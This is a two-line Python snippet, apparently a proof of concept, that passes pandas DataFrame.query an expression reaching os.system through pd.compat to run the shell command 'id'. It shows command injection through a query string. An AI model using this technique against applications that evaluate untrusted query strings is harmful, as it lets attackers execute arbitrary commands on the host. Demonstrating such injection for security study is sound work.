import pandas as pd
pd.DataFrame().query('@pd.compat.os.system("id")')
